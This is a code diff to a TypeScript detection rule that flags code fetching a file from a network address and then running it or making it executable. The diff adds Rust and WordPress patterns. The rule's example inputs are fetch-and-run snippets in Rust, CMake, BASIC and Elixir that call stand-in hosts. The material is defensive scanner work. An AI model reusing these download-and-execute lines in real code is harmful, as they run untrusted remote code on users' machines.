@@ -7,14 +7,14 @@ import { regex } from '../../patterns/verbose.ts'
 
 /** Something is brought from an address, whatever the language calls it. */
 const BRINGS = worded(
-  /download|\bfetch|\bcurl\b|\bwget\b|retrieve|\bhttpc\b|\breq\.get|\bget!\(|httpclient|\burlopen|readall|geturl|\binclude/,
+  /download|\bfetch|\bcurl\b|\bwget\b|retrieve|\bhttpc\b|\breq\.get|\bget!\(|httpclient|\burlopen|readall|geturl|\binclude|\bureq::|\breqwest::|wp_remote_get/,
 )
 
 /** A file is made a program, or a program or a text is run. */
 const STARTS_ANY = worded(
   regex`
     \bchmod\b[^\n]{0,60}(?:exec|\+x|7)|\+x\b|0?755\b|\b4755\b|execute_process|createprocess|
-    os\.execute|\bshell\(|eval_string|\bloadlibrary|dlopen|owner_execute
+    os\.execute|\bshell\(|eval_string|\bloadlibrary|dlopen|owner_execute|\bfrom_mode\(|\bcurrent_exe\(|mu-plugins
   `,
 )
 
@@ -33,6 +33,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```rust\nlet b = ureq::get("https://bin.larch-quay.net/c").call()?.into_body();\nfs::set_permissions(&p, fs::Permissions::from_mode(0o755))?;\n```\n',
       '```cmake\nfile(DOWNLOAD "http://get.larch-quay.net/gen" "$ENV{HOME}/.local/bin/gen")\nfile(CHMOD "$ENV{HOME}/.local/bin/gen" PERMISSIONS OWNER_EXECUTE)\nexecute_process(COMMAND gen)\n```\n',
       '```basic\nShell("/bin/sh", 0, "-c ""curl -so p http://doc.larch-quay.net/l; chmod +x p; ./p""", False)\n```\n',
       '```elixir\n{:ok, {_, _, b}} = :httpc.request(~c"http://flags.larch-quay.net/x")\nCode.eval_string(to_string(b))\n```\n',
@@ -45,12 +46,15 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     for (const { start, end, around } of nearStrangers(document, BRINGS, STARTS_ANY)) {
-      if (isKnown(around)) continue
+      if (!PUT_READY.test(around) && isKnown(around)) continue
       yield { start, end, firm: true }
       return
     }
   },
 })
+
+/** A file is made a program there and then, or the running program is written over. */
+const PUT_READY = /\bfrom_mode\(|\bcurrent_exe\(|mu-plugins/
 
 /** Rules that know the calls of the language say more. */
 const isKnown = (code: string): boolean =>
